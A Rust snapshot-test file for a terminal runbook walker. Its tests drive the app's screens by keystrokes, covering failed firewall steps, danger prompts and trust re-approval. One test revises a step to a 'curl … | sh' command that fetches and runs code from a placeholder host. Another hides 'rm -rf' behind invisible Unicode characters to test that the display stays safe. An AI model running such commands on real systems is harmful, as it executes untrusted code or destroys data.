//! The screens, each by the keys that lead to it.

use std::path::Path;

use daymark::app::SessionOptions;
use daymark::plan::Facts;
use daymark::service::plan_folder;
use daymark::view::Theme;
use ratatui::buffer::Cell;
use ratatui::style::{Color, Modifier};

use super::drawn::{SIZES, compare};
use crate::acting::Stage;

/// A plan of a few days that has one of everything.
fn bookshop(columns: u16, rows: u16) -> Stage {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/screens/plan");
    Stage::new(&plan_folder(&folder).unwrap(), columns, rows)
}

/// Plays a scene at every size and compares what is drawn.
#[track_caller]
fn check(name: &str, looks: bool, play: impl Fn(&mut Stage)) {
    let mut wrong = Vec::new();
    for (columns, rows) in SIZES {
        let mut stage = bookshop(columns, rows);
        play(&mut stage);
        wrong.extend(compare(name, &stage, looks && columns == SIZES[0].0));
    }
    assert!(
        wrong.is_empty(),
        "{}\nUPDATE=1 cargo test --test screens keeps what is drawn now",
        wrong.join("\n")
    );
}

/// The values that every later scene needs.
const VALUES: &str = "= \"192.0.2.7\" enter \"books.example.com\" enter \"hunter22\" enter ctrl-s ";

/// Walks day 1 to its fourth step: one passed, one done by hand, one passed by its `unless`.
fn to_the_firewall(stage: &mut Stage) {
    stage
        .will("tools", 0, 0.4, "/usr/bin/ssh\n")
        .will(
            "upgrade",
            0,
            71.0,
            "Reading package lists...\nBuilding dependency tree...\n\
             The following packages will be upgraded:\n  openssl libssl3\n2 upgraded, 0 newly installed.\n",
        )
        .keys(VALUES)
        .keys("enter enter enter \"Ordered at the usual place.\" ctrl-s enter");
}

fn failed_firewall(stage: &mut Stage) {
    to_the_firewall(stage);
    stage
        .will(
            "firewall",
            1,
            2.0,
            "Default incoming policy changed to 'deny'\nERROR: problem running ufw-init\n\
             iptables-restore: line 77 failed\n",
        )
        .keys("enter down enter \"shop\" enter");
}

#[test]
fn a_new_walk() {
    check("home", true, |_| {});
}

#[test]
fn home_after_some_work() {
    check("home-walked", true, |stage| {
        failed_firewall(stage);
        stage
            .will("active", 1, 0.3, "Status: inactive\n")
            .keys("down down v d \"Used another mirror.\" ctrl-s");
        stage.pass(3 * 24 * 60 * 60).keys("esc");
    });
}

#[test]
fn a_day() {
    check("day", true, |stage| {
        stage.keys("enter");
    });
}

#[test]
fn a_day_nobody_has_written_yet() {
    check("day-unwritten", false, |stage| {
        stage.keys("down down enter");
    });
}

#[test]
fn a_step_that_failed() {
    check("step-failed", true, failed_firewall);
}

#[test]
fn a_step_that_runs() {
    check("step-running", true, |stage| {
        to_the_firewall(stage);
        stage
            .will_go_on("firewall", 0, "Default incoming policy changed to 'deny'\n")
            .keys("enter down enter \"shop\" enter")
            .pass(7);
    });
}

#[test]
fn leaving_while_a_step_runs() {
    check("leave", false, |stage| {
        to_the_firewall(stage);
        stage
            .will_go_on("firewall", 0, "")
            .keys("enter down enter \"shop\" enter q");
    });
}

#[test]
fn typing_into_the_pane() {
    check("pane-typing", true, |stage| {
        failed_firewall(stage);
        stage.keys("tab enter");
    });
}

#[test]
fn characters_that_hide_in_the_pane() {
    check("pane-hidden", true, |stage| {
        to_the_firewall(stage);
        stage
            .will_go_on(
                "firewall",
                0,
                "rm\u{200b} -rf \u{202e}txt\n👩\u{200d}💻 e\u{301}\n",
            )
            .keys("enter down enter \"shop\" enter");
    });
}

#[test]
fn the_pane_alone() {
    check("pane-zoomed", false, |stage| {
        failed_firewall(stage);
        stage.keys("z");
    });
}

#[test]
fn a_step_in_full() {
    check("details", true, |stage| {
        failed_firewall(stage);
        stage.keys("i");
    });
}

#[test]
fn a_step_done_by_hand() {
    check("details-by-hand", false, |stage| {
        stage.keys("enter down i");
    });
}

#[test]
fn a_check_with_its_proof() {
    check("details-check", false, |stage| {
        stage
            .will("active", 0, 0.3, "Status: active\n")
            .keys(VALUES)
            .keys("enter down down down down down v up i");
    });
}

#[test]
fn the_question_before_danger() {
    check("danger", true, |stage| {
        to_the_firewall(stage);
        stage.keys("enter");
    });
}

#[test]
fn the_name_of_a_production_host() {
    check("production", false, |stage| {
        to_the_firewall(stage);
        stage.keys("enter down enter \"sho\"");
    });
}

#[test]
fn a_run_whose_end_nobody_saw() {
    check("lost", false, |stage| {
        to_the_firewall(stage);
        stage
            .will_be_lost("firewall", "Default incoming policy changed\n")
            .keys("enter down enter \"shop\" enter");
    });
}

#[test]
fn the_key_that_tells_what_to_do() {
    check("lost-later", false, |stage| {
        to_the_firewall(stage);
        stage
            .will_be_lost("firewall", "Default incoming policy changed\n")
            .keys("enter down enter \"shop\" enter down up");
    });
}

#[test]
fn what_to_do_about_it() {
    check("lost-choices", false, |stage| {
        to_the_firewall(stage);
        stage
            .will_be_lost("firewall", "Default incoming policy changed\n")
            .keys("enter down enter \"shop\" enter enter");
    });
}

#[test]
fn a_form_that_refuses() {
    check("form", true, |stage| {
        stage.keys("= \"192.0.2\" enter \"books\" enter \"abc\" ctrl-s");
    });
}

#[test]
fn values_a_step_needs() {
    check("form-needed", false, |stage| {
        stage.keys("enter down down enter");
    });
}

#[test]
fn a_note_of_several_lines() {
    check("note", true, |stage| {
        stage.keys("enter d \"The image had no sudo.\nInstalled it first.\"");
    });
}

#[test]
fn a_check_to_tick() {
    check("tick", false, |stage| {
        stage.keys("enter G up space");
    });
}

#[test]
fn a_check_to_untick() {
    check("untick", false, |stage| {
        stage.keys("enter G enter \"Saw it.\" ctrl-s space");
    });
}

#[test]
fn finding_a_day() {
    check("find", false, |stage| {
        stage.keys("/ \"second\"");
    });
}

#[test]
fn finding_nothing() {
    check("find-nothing", false, |stage| {
        stage.keys("/ \"seconds\"");
    });
}

#[test]
fn all_commands() {
    check("palette", true, |stage| {
        stage.keys("enter : \"re\" down");
    });
}

#[test]
fn all_keys() {
    check("help", false, |stage| {
        stage.keys("?");
    });
}

#[test]
fn the_author_s_own_commands() {
    check("author", false, |stage| {
        stage.keys("enter a");
    });
}

#[test]
fn kept_output() {
    check("output", false, |stage| {
        failed_firewall(stage);
        stage.keys("o");
    });
}

#[test]
fn the_report() {
    check("report", false, |stage| {
        failed_firewall(stage);
        stage.keys("r");
    });
}

#[test]
fn the_question_of_trust() {
    check("trust", true, |stage| {
        stage.app.engine.set_trust(false, None);
        stage.keys("T");
    });
}

#[test]
fn the_question_of_trust_after_a_change() {
    check("trust-changed", true, |stage| {
        let facts = Facts::of(stage.app.engine.plan());
        stage.app.engine.set_trust(false, Some(facts));
        stage.revise("tools", "command -v ssh && curl -s get.example | sh");
        stage.change_plan(|plan| {
            plan.hosts[2].production = true;
            plan.entries[0].steps[3].danger = None;
        });
        stage.keys("T");
    });
}

#[test]
fn somebody_else_walks() {
    check("only-looking", false, |stage| {
        stage.app.engine.set_session(SessionOptions {
            read_only_reason: Some("ada on hull walks it since 08:40 (process 4711)".to_owned()),
            ..SessionOptions::default()
        });
        stage.keys("enter enter");
    });
}

#[test]
fn signs_of_ascii_alone() {
    check("ascii", false, |stage| {
        stage.theme = Theme::plain().with_ascii(true);
        failed_firewall(stage);
    });
}

#[test]
fn kept_output_in_its_colours() {
    let mut stage = bookshop(80, 24);
    to_the_firewall(&mut stage);
    let text = "\u{1b}[1;31mred\u{1b}[0m and plain\r\n10%\r\u{1b}[32m99%\u{1b}[0m\r\n\u{1b}[8mhidden\u{1b}[2J\r\n";
    stage
        .will("firewall", 1, 2.0, text)
        .keys("enter down enter \"shop\" enter o");
    let screen = stage.screen();
    let row = |text: &str| {
        let rows = screen.area.rows().find_map(|row| {
            let cells: Vec<_> = row
                .columns()
                .map(|at| screen[(at.x, at.y)].clone())
                .collect();
            let line: String = cells.iter().map(Cell::symbol).collect();
            let at = line.find(text)?;
            Some(cells[line[..at].chars().count()].clone())
        });
        rows.unwrap_or_else(|| panic!("no {text} on the screen"))
    };
    assert_eq!(row("red and plain").fg, Color::Indexed(1));
    assert!(row("red and plain").modifier.contains(Modifier::BOLD));
    assert_ne!(row("and plain").fg, Color::Indexed(1));
    assert_eq!(row("99%").fg, Color::Indexed(2));
    assert!(screen.content.iter().all(|cell| cell.symbol() != "^"));
}
